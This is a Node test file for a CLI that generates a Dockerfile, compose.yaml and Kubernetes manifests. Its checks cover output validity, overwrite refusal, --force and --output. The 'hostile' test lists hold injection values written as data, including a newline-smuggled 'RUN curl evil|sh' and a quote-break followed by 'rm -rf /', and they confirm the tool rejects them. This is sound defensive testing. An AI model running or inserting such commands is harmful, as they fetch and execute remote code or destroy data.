/**
 * `assist generate docker` and `assist generate kubernetes` as a user runs them (the built CLI):
 * what they write, the refusal to overwrite, --force, --output, and hostile values that must write
 * nothing. compose.yaml is read back by a real YAML parser and by `podman-compose config` (Debian's
 * podman-compose); the manifests by kubernetes-models (offline schema validation: no cluster here).
 * The Dockerfile is built and run for real in container.test.ts. Build first (npm test does).
 */
import assert from 'node:assert/strict'
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import { Deployment } from 'kubernetes-models/apps/v1'
import { Ingress } from 'kubernetes-models/networking.k8s.io/v1'
import { PodDisruptionBudget } from 'kubernetes-models/policy/v1'
import { Service } from 'kubernetes-models/v1'
import { parse, parseAllDocuments } from 'yaml'
import { runCommand } from '../../src/core/launcher.js'
import { makeLuaApp, removeDir, tempDir } from '../helpers/app.js'
import { runCli } from '../helpers/cli.js'
import { snapshot } from '../helpers/fs-snapshot.js'
import { podmanConfig } from '../helpers/podman.js'

const REPO_VERSION = JSON.parse(readFileSync(new URL('../../package.json', import.meta.url), 'utf8')).version

const work = tempDir('assist-gen-container-')
after(() => removeDir(work))

let n = 0
function freshApp(): string {
  return makeLuaApp(`Clock App ${n++}`.replace(/ /g, '_'), {}, work)
}

/**
 * What podman-compose (Debian's 1.0.3, which has no `config` command) makes of a compose.yaml: with
 * --dry-run it prints the podman commands it would run. It still creates the project's network, so
 * it runs with the tests' own podman configuration (networks under a temp folder).
 */
async function composeDryRun(app: string): Promise<string> {
  const r = await runCommand(
    ['podman-compose', '-f', join(app, 'compose.yaml'), '--dry-run', 'up', '-d', '--no-build'],
    {
      cwd: app,
      env: podmanConfig().env,
      timeoutMs: 60_000,
    },
  )
  assert.equal(r.code, 0, r.stdout + r.stderr)
  return r.stdout
}

function assist(args: string[], cwd: string) {
  return runCli(args, { cwd })
}

function oneLineError(r: { code: number | null; stderr: string; stdout: string }, re: RegExp): void {
  assert.notEqual(r.code, 0, 'exits non-zero')
  assert.match(r.stderr, re)
  assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace')
  assert.equal(r.stderr.trim().split('\n').length, 1, `one line: ${r.stderr}`)
}

describe('assist generate docker', () => {
  test('writes Dockerfile, .dockerignore and compose.yaml into the app; podman-compose reads compose.yaml', async () => {
    const app = freshApp()
    const r = await assist(['generate', 'docker'], join(app, 'lua'))
    assert.equal(r.code, 0, r.stderr)
    assert.match(r.stdout, /^Wrote .*Dockerfile, .*\.dockerignore, .*compose\.yaml\. Build and run/m)
    const df = readFileSync(join(app, 'Dockerfile'), 'utf8')
    assert.match(
      df,
      new RegExp(`^ARG ASSIST_PACKAGE=allo-assist@${REPO_VERSION.replace(/\./g, '\\.')}$`, 'm'),
    )
    const compose = parse(readFileSync(join(app, 'compose.yaml'), 'utf8'))
    assert.match(compose.name, /^clock_app_\d+$/)
    const run = (await composeDryRun(app)).split('\n').find((l) => l.startsWith('podman run')) ?? ''
    for (const arg of [
      '-p 8000:8000',
      '--restart unless-stopped',
      '--tmpfs /tmp',
      '--cap-drop ALL',
      '--security-opt no-new-privileges:true',
      '--healthcheck-interval 30s',
      '--network-alias gateway',
    ])
      assert.ok(run.includes(arg), `podman-compose did not make ${arg} of it: ${run}`)
  })

  test('the same files as create lays down: a new app already has them, so generate refuses without --force', async () => {
    const parent = tempDir('assist-gen-create-')
    try {
      const c = await runCli(['create', 'clock', '--no-install', '--no-git'], { cwd: parent })
      assert.equal(c.code, 0, c.stderr)
      const app = join(parent, 'clock')
      const before = snapshot(app)
      const r = await assist(['generate', 'docker'], app)
      oneLineError(r, /Dockerfile, .*\.dockerignore already exist; nothing was written\. Pass --force/)
      assert.deepEqual(snapshot(app), before, 'compose.yaml not written either: all or nothing')
      const out = tempDir('assist-gen-out-')
      const g = await assist(['generate', 'docker', '--output', out], app)
      assert.equal(g.code, 0, g.stderr)
      for (const f of ['Dockerfile', '.dockerignore'])
        assert.equal(readFileSync(join(out, f), 'utf8'), readFileSync(join(app, f), 'utf8'), `${f} differs`)
      removeDir(out)
    } finally {
      removeDir(parent)
    }
  })

  test('--force replaces; --domain adds nginx in front with its site', async () => {
    const app = freshApp()
    writeFileSync(join(app, 'Dockerfile'), 'FROM scratch\n')
    const r = await assist(
      ['generate', 'docker', '--force', '--domain', 'apps.example.com', '--port', '9000'],
      app,
    )
    assert.equal(r.code, 0, r.stderr)
    assert.match(readFileSync(join(app, 'Dockerfile'), 'utf8'), /^EXPOSE 9000$/m)
    const site = readFileSync(join(app, 'nginx/apps.example.com.conf'), 'utf8')
    assert.match(site, /server gateway:9000 /)
    const runs = (await composeDryRun(app)).split('\n').filter((l) => l.startsWith('podman run'))
    assert.equal(runs.length, 2)
    const [gateway, nginx] = runs
    assert.ok(gateway.includes('--expose 9000') && !gateway.includes(' -p '), gateway)
    assert.ok(nginx.includes('-p 80:80 -p 443:443'), nginx)
    assert.ok(
      nginx.includes(`-v ${app}/nginx/apps.example.com.conf:/etc/nginx/conf.d/apps.example.com.conf:ro`),
      nginx,
    )
  })

  test('outside an app: one line saying what to do', async () => {
    oneLineError(
      await assist(['generate', 'docker'], work),
      /not inside an app: run "assist generate docker" in your app's folder/,
    )
  })

  const hostile: Array<[string, string[], RegExp]> = [
    ['--domain a;b', ['--domain', 'a;b'], /--domain/],
    ['--domain with a newline', ['--domain', 'a.com\nserver {'], /--domain/],
    ['--name with spaces', ['--name', 'my app'], /--name/],
    ['--name with a newline', ['--name', 'app\nRUN x'], /--name/],
    ['--port 0', ['--port', '0'], /--port/],
    ['--port text', ['--port', '80;'], /--port/],
    ['--grace negative', ['--grace', '-5'], /--grace/],
    ['--base-image with a space', ['--base-image', 'node:24 AS x'], /--base-image/],
    ['--base-image with a newline', ['--base-image', 'node:24\nRUN curl evil|sh'], /--base-image/],
    ['--assist-version with a quote', ['--assist-version', '1.0"; rm -rf /'], /--assist-version/],
    ['--output not a folder', ['--output', '/nonexistent/x'], /--output/],
  ]
  for (const [label, args, re] of hostile) {
    test(`hostile: ${label} writes nothing`, async () => {
      const app = freshApp()
      const before = snapshot(app)
      oneLineError(await assist(['generate', 'docker', ...args], app), re)
      assert.deepEqual(snapshot(app), before)
    })
  }
})

const MODELS: Record<string, new (o: object) => { validate(): void }> = {
  Deployment,
  Service,
  PodDisruptionBudget,
  Ingress,
}

function validateAll(text: string): string[] {
  return parseAllDocuments(text)
    .map((d) => d.toJS())
    .filter((o) => o !== null)
    .map((o) => {
      new MODELS[o.kind](o).validate()
      return o.kind as string
    })
}

describe('assist generate kubernetes', () => {
  test('prints manifests that validate; named after the app folder', async () => {
    const app = freshApp()
    const r = await assist(['generate', 'kubernetes', '--replicas', '3', '--domain', 'apps.example.com'], app)
    assert.equal(r.code, 0, r.stderr)
    assert.deepEqual(validateAll(r.stdout), ['Deployment', 'Service', 'PodDisruptionBudget', 'Ingress'])
    assert.match(r.stdout, /^ {2}name: clock-app-\d+$/m)
    assert.match(r.stdout, /^ {2}replicas: 3$/m)
    const alias = await assist(
      ['generate-kubernetes', '--replicas', '3', '--domain', 'apps.example.com'],
      app,
    )
    assert.equal(alias.stdout, r.stdout)
  })

  test('--output writes once, refuses to overwrite, --force replaces', async () => {
    const out = join(tempDir('assist-k8s-'), 'clock.yaml')
    const a = await assist(['generate', 'kubernetes', '--name', 'clock', '--output', out], work)
    assert.equal(a.code, 0, a.stderr)
    assert.match(a.stdout, /kubectl apply -f /)
    assert.deepEqual(validateAll(readFileSync(out, 'utf8')), ['Deployment', 'Service', 'PodDisruptionBudget'])
    const b = await assist(
      ['generate', 'kubernetes', '--name', 'clock', '--replicas', '4', '--output', out],
      work,
    )
    oneLineError(b, /already exists; pass --force/)
    assert.doesNotMatch(readFileSync(out, 'utf8'), /replicas: 4/)
    const c = await assist(
      ['generate', 'kubernetes', '--name', 'clock', '--replicas', '4', '--output', out, '--force'],
      work,
    )
    assert.equal(c.code, 0, c.stderr)
    assert.match(readFileSync(out, 'utf8'), /^ {2}replicas: 4$/m)
  })

  test('outside an app without --name: one line saying to give one', async () => {
    oneLineError(await assist(['generate', 'kubernetes'], work), /--name/)
  })

  const hostile: Array<[string, string[], RegExp]> = [
    ['--domain a;b', ['--domain', 'a;b'], /--domain/],
    ['--domain with a newline', ['--domain', 'a.com\n  x: y'], /--domain/],
    ['--replicas 0', ['--replicas', '0'], /--replicas/],
    ['--replicas -1', ['--replicas', '-1'], /--replicas/],
    ['--replicas 2.5', ['--replicas', '2.5'], /--replicas/],
    ['--replicas lots', ['--replicas', 'lots'], /--replicas/],
    ['--name upper case', ['--name', 'Clock'], /--name/],
    ['--name with a newline', ['--name', 'clock\nkind: Secret'], /--name/],
    ['--image with a space', ['--image', 'clock:1 # x'], /--image/],
    ['--memory-limit 1GB', ['--memory-limit', '1GB'], /--memory-limit/],
    ['--cpu-request over --cpu-limit', ['--cpu-request', '2', '--cpu-limit', '1'], /--cpu-request/],
    ['--tls-secret without --domain', ['--tls-secret', 'x'], /--domain/],
  ]
  for (const [label, args, re] of hostile) {
    test(`hostile: ${label} writes nothing`, async () => {
      const dir = tempDir('assist-k8s-bad-')
      const out = join(dir, 'k.yaml')
      oneLineError(
        await assist(['generate', 'kubernetes', '--name', 'clock', ...args, '--output', out], work),
        re,
      )
      assert.deepEqual(readdirSync(dir), [])
      removeDir(dir)
    })
  }
})
